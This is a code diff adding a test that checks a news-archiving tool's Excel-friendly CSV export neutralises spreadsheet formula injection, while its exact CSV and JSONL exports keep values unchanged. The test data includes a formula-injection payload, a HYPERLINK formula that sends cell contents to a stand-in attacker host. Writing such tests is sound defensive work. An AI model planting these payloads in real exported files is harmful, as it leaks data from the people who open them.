@@ -121,6 +121,30 @@ def test_the_card_tells_what_is_not_there(paper: Path, tmp_path: Path) -> None:
         ]
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2)', "+1+1", "-2+3", "@SUM(1)", "＝1+1"]
+PLAIN = ["Giá xăng = 25.000 đồng", "'Cầu' đã xong", "12 - 3"]
+
+
+def cells(file: Path, encoding: str) -> list[str]:
+    with file.open(encoding=encoding, newline="") as opened:
+        return [row["headline"] for row in csv.DictReader(opened)]
+
+
+def test_a_spreadsheet_runs_nothing_of_a_page_and_programs_get_every_value(
+    path: Path, db: Database, run: Run, shoot: Shoot, tmp_path: Path
+) -> None:
+    for number, headline in enumerate([*FORMULAS, *PLAIN]):
+        ingest(db, run, shoot(f"https://bao.example/b-{number}.htm", page(headline, body=f"Bài số {number}. " * 30)))
+    luubao("export", "csv", "--db", path, "--to", tmp_path / "exact")
+    luubao("export", "csv", "--excel", "--db", path, "--to", tmp_path / "excel")
+    assert cells(tmp_path / "exact" / "versions.csv", "utf-8") == [*FORMULAS, *PLAIN]
+    for_people = tmp_path / "excel" / "versions.csv"
+    assert for_people.read_bytes().startswith(b"\xef\xbb\xbfversion_id,")
+    assert cells(for_people, "utf-8-sig") == [*(f"'{one}" for one in FORMULAS), *PLAIN]
+    assert [one["headline"] for one in rows(path, tmp_path / "jsonl")] == [*FORMULAS, *PLAIN]
+    luubao("export", "jsonl", "--excel", "--db", path, "--to", tmp_path / "no", code=2)
+
+
 LOADERS = {
     "polars parquet": "import polars; t = polars.read_parquet(p + '/parquet/versions.parquet'); print(t.height, t['headline'][1], t['credits'].to_list()[1])",
     "polars jsonl": "import polars; t = polars.read_ndjson(p + '/jsonl/versions.jsonl'); print(t.height, t['headline'][1], t['credits'].to_list()[1])",
